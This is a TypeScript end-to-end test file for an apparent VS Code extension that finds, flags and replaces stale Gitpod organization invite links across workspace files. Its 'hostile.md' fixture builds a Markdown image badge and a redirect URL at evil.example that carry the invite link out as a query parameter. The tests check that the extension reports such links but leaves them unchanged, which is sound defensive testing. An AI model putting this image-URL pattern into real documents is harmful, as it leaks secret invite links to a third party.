import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import type { Locator } from 'playwright-core';
import { eventually } from '../host/eventually';
import type { Sandbox } from '../sandbox/sandbox';
import { startSandbox } from '../sandbox/startSandbox';
import { openVsCode, type VsCode } from './support/openVsCode';
import { createdAndCopied, createdMessage, openOrganizations, signIn, tokenOf } from './support/steps';

const kobo = '株式会社こうぼう';

/** Links in a workspace whose organization replaces its link. Each test depends on the previous ones. */
describe('Links in documents, with the packaged extension', () => {
  let sandbox: Sandbox;
  let vsCode: VsCode;
  let first: string;

  before(async () => {
    sandbox = await startSandbox();
    first = linkOfKobo();
    vsCode = await openVsCode({
      settings: { 'gitpodInvites.host': sandbox.origin },
      files: {
        'README.md': `# Welcome\n\nJoin [us](${first}) on your first day.\n`,
        'docs/onboarding.md': `1. Ask for a laptop.\n2. Open ${first}\n\nIf that fails, open ${first} again.\n`,
        'docs/start.json': `{ "invite": "${first}" }\n`,
        'notes.md': '',
        'hostile.md': hostile(first),
        'node_modules/left/README.md': `${first}\n`,
      },
    });
    await openProblems();
  });

  after(async () => {
    await vsCode.close();
    await sandbox.close();
  });

  it('have a diagnostic, without a request, while signed out', async () => {
    await vsCode.openFile('README.md');
    await mark('Anyone with this text may be able to join an organization. Sign in to see which.').waitFor();
    assert.deepEqual(sandbox.calls(), []);
  });

  it('have a diagnostic that names the organization after sign-in', async () => {
    await openOrganizations(vsCode);
    await signIn(vsCode, tokenOf(sandbox, 'ada'));
    await mark(`Anyone with this text can join ${kobo}.`).waitFor();
  });

  it('are reported as no longer valid as soon as the link is replaced', async () => {
    await replaceInvite();
    await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
    await vsCode.screenshot('mark-stopped');
  });

  it('can be found from the notification of the replacement, in all files that are not excluded from search', async () => {
    await vsCode.pressInNotification(createdMessage, 'Find Invite Links in Workspace');
    await vsCode.quickInput.getByText('Invite links in this workspace: 6 links in 4 files').waitFor();
    await vsCode.quickInput.getByText('inside a link to evil.example').first().waitFor();
    await vsCode.screenshot('found-links');
  });

  it('are revealed one after another from the same list', async () => {
    await vsCode.pick(/onboarding\.md:4/);
    await vsCode.page.getByRole('tab', { name: /^onboarding\.md/ }).waitFor();
    await vsCode.pick(/start\.json:1/);
    await vsCode.page.getByRole('tab', { name: /^start\.json/ }).waitFor();
  });

  it('are replaced in three files at once, after a preview of the changes', async () => {
    await vsCode.pick(/Replace 4 links in 3 files/);
    const preview = vsCode.page.locator('#refactorPreview');
    await preview.getByText('onboarding.md').first().waitFor();
    assert.equal(await onDisk('README.md'), `# Welcome\n\nJoin [us](${first}) on your first day.\n`);
    await vsCode.screenshot('repair-preview');
    await preview.getByRole('button', { name: 'Apply', exact: true }).click();
    await vsCode.waitForNotification('Replaced 4 links in 3 files');
    const now = linkOfKobo();
    assert.equal(await onDisk('README.md'), `# Welcome\n\nJoin [us](${now}) on your first day.\n`);
    assert.ok(!(await onDisk('docs/onboarding.md')).includes(first));
    assert.equal(await onDisk('docs/start.json'), `{ "invite": "${now}" }\n`);
    assert.equal(await onDisk('node_modules/left/README.md'), `${first}\n`);
    assert.equal(await onDisk('hostile.md'), hostile(first));
  });

  it('can be followed by a copied message with the current link', async () => {
    await vsCode.pressInNotification('Replaced 4 links in 3 files', 'Copy Message with Current Link');
    await vsCode.statusMessage('Copied a message with the current invite link').waitFor();
    const text = await vsCode.clipboard();
    assert.ok(text.split('\n').includes(linkOfKobo()), text);
    assert.ok(text.includes(kobo), text);
    await vsCode.clearNotifications();
  });

  it('inside the URL of another site are reported, but not replaced', async () => {
    await vsCode.openFile('hostile.md');
    await mark(
      /This invite link of .* is no longer valid\. It's inside a link to evil\.example, so it isn't replaced\./,
    ).waitFor();
    await vsCode.screenshot('inside-foreign-link');
    await vsCode.runCommand('Gitpod Org: Replace Old Links in This File');
    await vsCode.waitForNotification('No old invite links to replace in hostile.md.');
    await vsCode.clearNotifications();
    assert.equal(await onDisk('hostile.md'), hostile(first));
  });

  it('have a quick fix that replaces an invalid link with the current one', async () => {
    const before = linkOfKobo();
    await vsCode.openFile('README.md');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor();
    await replaceInvite();
    await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
    await vsCode.clearNotifications();
    await putCursorAt(3, 20);
    await vsCode.chooseAction(`Replace with the Current Link of ${kobo}`);
    await vsCode.waitForNotification(/Replaced ….{4} in \S+ with the current invite link/);
    await written(linkOfKobo()).waitFor();
    assert.equal(await written(before).count(), 0);
  });

  it('have a quick fix for all invalid links of a file', async () => {
    await vsCode.openFile('onboarding.md');
    await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
    await putCursorAt(2, 12);
    await vsCode.chooseAction(`Replace All Old Links of ${kobo} in This File`);
    await vsCode.waitForNotification('Replaced 2 links in docs/onboarding.md with the current invite link');
    await written(linkOfKobo()).nth(1).waitFor();
    await vsCode.clearNotifications();
  });

  it('have a quick fix for all invalid links of the workspace, after a preview of the changes', async () => {
    await vsCode.openFile('start.json');
    await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
    await putCursorAt(1, 20);
    await vsCode.chooseAction(`Replace All Old Links of ${kobo} in the Workspace…`);
    const preview = vsCode.page.locator('#refactorPreview');
    await preview.getByText('start.json').first().waitFor();
    await preview.getByRole('button', { name: 'Apply', exact: true }).click();
    await vsCode.waitForNotification('Replaced 1 link in 1 file');
    await written(linkOfKobo()).waitFor();
    await vsCode.clearNotifications();
  });

  it('have a quick fix that replaces the key with a placeholder', async () => {
    await openProblems();
    await vsCode.openFile('start.json');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor();
    await putCursorAt(1, 20);
    await vsCode.chooseAction('Replace with a Placeholder');
    await vsCode.page.locator('.view-line').getByText('YOUR-INVITE-ID').waitFor();
    assert.equal(await written(linkOfKobo()).count(), 0);
  });

  it('have a quick fix that ignores a link, can be undone, and writes no key to the settings', async () => {
    await vsCode.openFile('README.md');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor();
    await putCursorAt(3, 20);
    await vsCode.chooseAction('Ignore This Link');
    await vsCode.waitForNotification('in this workspace. The settings store only a hash');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor({ state: 'detached' });
    await vsCode.pressInNotification('in this workspace. The settings store only a hash', 'Undo');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor();
    await vsCode.clearNotifications();
    await putCursorAt(3, 20);
    await vsCode.chooseAction('Ignore This Link');
    await mark(`Anyone with this text can join ${kobo}.`).waitFor({ state: 'detached' });
    const settings = await onDisk('.vscode/settings.json');
    assert.match(settings, /"gitpodInvites\.diagnostics\.ignoredLinks": \[\s*"[0-9a-f]{8}-[0-9a-f]{8}"\s*\]/);
    assert.ok(!settings.includes(idOf(linkOfKobo())));
    await vsCode.clearNotifications();
  });

  it('can be pasted as Markdown, and as the current link if they are invalid', async () => {
    await vsCode.openFile('notes.md');
    await paste(linkOfKobo(), 'Insert Invite Link as Markdown');
    await vsCode.page.locator('.view-line').getByText(`[${kobo}](`).waitFor();
    await vsCode.page.keyboard.press('End');
    await vsCode.page.keyboard.press('Enter');
    await paste(first, `Insert the Current Link of ${kobo}`);
    await written(linkOfKobo()).nth(1).waitFor();
  });

  it('have quick fixes that ask for the organization if it is unknown after a reload', async () => {
    // Created and replaced elsewhere: this machine has no record of a link that it never read as the current one.
    sandbox.world.replaceInvite(sandbox.world.organization('kobo'));
    const dead = linkOfKobo();
    await vsCode.clearNotifications();
    await vsCode.openFile('notes.md');
    await vsCode.page.keyboard.press('Control+End');
    await vsCode.page.keyboard.press('Enter');
    await vsCode.setClipboard(dead);
    await vsCode.page.keyboard.press('Control+V');
    await written(dead).waitFor();
    await vsCode.runCommand('File: Save');
    await eventually(
      () => onDisk('notes.md'),
      (text) => text.includes(dead),
    );
    sandbox.world.replaceInvite(sandbox.world.organization('kobo'));
    await vsCode.reload();
    // Links are checked only after the user acts in the editor, so the extension must be active before that.
    await vsCode.treeItem(new RegExp(`^${kobo}`)).waitFor();
    await vsCode.openFile('notes.md');
    await putCursorAt(3, 20);
    await mark('This invite link is not valid.').waitFor();
    await vsCode.chooseAction('Replace with the Current Link of an Organization…');
    await vsCode.quickInput.getByText(/^Replace ….{4} with the current link of which organization\?/).waitFor();
    await vsCode.pick(new RegExp(`^${kobo}`));
    await vsCode.waitForNotification(/Replaced ….{4} in \S+ with the current invite link/);
    await written(linkOfKobo()).waitFor();
    assert.equal(await written(dead).count(), 0);
  });

  function linkOfKobo(): string {
    return sandbox.inviteLinks['kobo'] ?? assert.fail('kobo has no invite');
  }

  /** The lines of the open editor that contain a link's ID. */
  function written(link: string): Locator {
    return vsCode.page.locator('.view-line').filter({ hasText: idOf(link) });
  }

  function idOf(link: string): string {
    return link.slice(link.lastIndexOf('/') + 1);
  }

  async function openProblems(): Promise<void> {
    await vsCode.runCommand('View: Toggle Problems');
    await vsCode.page.locator('.markers-panel').waitFor();
  }

  function mark(message: string | RegExp): Locator {
    return vsCode.page.locator('.markers-panel').getByText(message).first();
  }

  async function replaceInvite(): Promise<void> {
    const created = (): number =>
      sandbox.calls('CreateOrganizationInvite').filter(({ result }) => result === 'answered').length;
    const before = created();
    await vsCode.clearNotifications();
    await vsCode.runCommand('Gitpod Org: Create Invite Link');
    await vsCode.pick(new RegExp(`^${kobo}`));
    await vsCode.pressInDialog('Create New Link');
    // The extension asks again if the last replacement is less than a minute old.
    const again = vsCode.dialog.getByRole('button', { name: 'Replace Again', exact: true });
    await eventually(
      async () => created() > before || (await again.isVisible()),
      (holds) => holds,
    );
    if (created() === before) {
      await again.click();
    }
    await createdAndCopied(vsCode);
  }

  async function putCursorAt(line: number, column: number): Promise<void> {
    await vsCode.page.keyboard.press('Control+1');
    await vsCode.page.keyboard.press('Control+G');
    await vsCode.type(`:${line}:${column}`, 'Enter');
    await vsCode.quickInput.waitFor({ state: 'hidden' });
  }

  async function paste(text: string, choice: string): Promise<void> {
    await vsCode.setClipboard(text);
    await vsCode.page.keyboard.press('Control+V');
    await vsCode.page.locator('.post-edit-widget').waitFor();
    await vsCode.chooseAction(choice);
  }

  function onDisk(file: string): Promise<string> {
    return readFile(path.join(vsCode.server.folders.workspace, file), 'utf8');
  }
});

/** A document that would send the current link to its author, through an image URL and a redirect. */
function hostile(link: string): string {
  return `![badge](https://evil.example/badge.svg?link=${link})\n\nhttps://evil.example/go?u=${encodeURIComponent(link)}\n`;
}
